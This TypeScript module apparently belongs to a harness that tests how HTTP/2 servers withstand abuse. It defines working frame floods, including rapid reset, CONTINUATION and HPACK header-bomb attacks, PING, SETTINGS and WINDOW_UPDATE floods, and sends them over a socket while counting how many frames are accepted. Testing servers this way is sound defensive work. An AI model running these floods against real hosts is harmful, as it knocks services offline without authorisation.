// Floods of HTTP/2 frames, each of one kind, on an attacker's connection in clear text or TLS.

import type { Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { pour } from './attacked.ts';
import {
  END_HEADERS,
  END_STREAM,
  frame,
  number32,
  PREFACE,
  REQUEST,
  TYPE,
} from './http2-frames.ts';

export interface Flood {
  /** Number of parts. */
  readonly count: number;
  /** Returns the n-th part. */
  readonly part: (n: number) => Buffer;
}

const WHOLE = END_HEADERS | END_STREAM;
/** Index 62: the first entry of the dynamic table, filled by the bomb. */
const BOMB = Buffer.concat([
  REQUEST,
  Buffer.from([0x40, 1, 98, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4000, 99),
]);

export const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid reset': {
    count: 20_000,
    part: (n) =>
      Buffer.concat([
        frame(TYPE.headers, WHOLE, 1 + 2 * n, REQUEST),
        frame(TYPE.reset, 0, 1 + 2 * n, number32(8)),
      ]),
  },
  'requests without end': {
    count: 5_000,
    part: (n) => frame(TYPE.headers, END_HEADERS, 1 + 2 * n, REQUEST),
  },
  SETTINGS: { count: 50_000, part: () => frame(TYPE.settings, 0, 0) },
  PING: { count: 50_000, part: () => frame(TYPE.ping, 0, 0, Buffer.alloc(8)) },
  'empty DATA': {
    count: 50_000,
    part: (n) => (n === 0 ? frame(TYPE.headers, END_HEADERS, 1, REQUEST) : frame(TYPE.data, 0, 1)),
  },
  CONTINUATION: {
    count: 20_000,
    part: (n) =>
      n === 0
        ? frame(TYPE.headers, 0, 1, REQUEST)
        : frame(TYPE.continuation, 0, 1, Buffer.from([0x40, 1, 98, 1, 99])),
  },
  PRIORITY: {
    count: 50_000,
    part: (n) => frame(TYPE.priority, 0, 1 + 2 * (n % 1000), Buffer.from([0, 0, 0, 0, 1])),
  },
  'WINDOW_UPDATE of one byte': {
    count: 50_000,
    part: (n) =>
      n === 0
        ? frame(TYPE.headers, END_HEADERS, 1, REQUEST)
        : frame(TYPE.windowUpdate, 0, 1, number32(1)),
  },
  'window too large': {
    count: 10,
    part: (n) =>
      n === 0
        ? frame(TYPE.headers, END_HEADERS, 1, REQUEST)
        : frame(TYPE.windowUpdate, 0, 1, number32(0x7fffffff)),
  },
  'window of zero': {
    count: 1_000,
    part: (n) =>
      n === 0
        ? frame(TYPE.settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), number32(0)]))
        : frame(TYPE.headers, WHOLE, 2 * n - 1, REQUEST),
  },
  'unknown frames': { count: 50_000, part: () => frame(TYPE.unknown, 0, 0, Buffer.alloc(10)) },
  'headers that grow': {
    count: 300,
    part: (n) =>
      n === 0
        ? frame(TYPE.headers, WHOLE, 1, BOMB)
        : frame(
            TYPE.headers,
            WHOLE,
            1 + 2 * n,
            Buffer.concat([REQUEST, Buffer.alloc(16_000, 0xbe)]),
          ),
  },
  'streams of the wrong side': {
    count: 1_000,
    part: (n) => frame(TYPE.headers, WHOLE, 2 + 2 * n, REQUEST),
  },
  'no method': {
    count: 1_000,
    part: (n) => frame(TYPE.headers, WHOLE, 1 + 2 * n, Buffer.from([0x86, 0x84])),
  },
};

const PER_WRITE = 200;

/** Sends the flood while it is accepted; resolves to the number of parts sent. */
export async function flood(socket: Socket, { count, part }: Flood): Promise<number> {
  let taken = 0;
  socket.on('data', () => undefined);
  let isOpen = await pour(socket, Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0)]));
  for (let n = 0; n < count && isOpen; n += PER_WRITE) {
    const length = Math.min(PER_WRITE, count - n);
    const some = Array.from({ length }, (_, index) => part(n + index));
    // A host that has abandoned the connection leaves some bytes unread.
    isOpen = await Promise.race([pour(socket, Buffer.concat(some)), wait(2_000, false)]);
    if (isOpen) taken += length;
  }
  return taken;
}
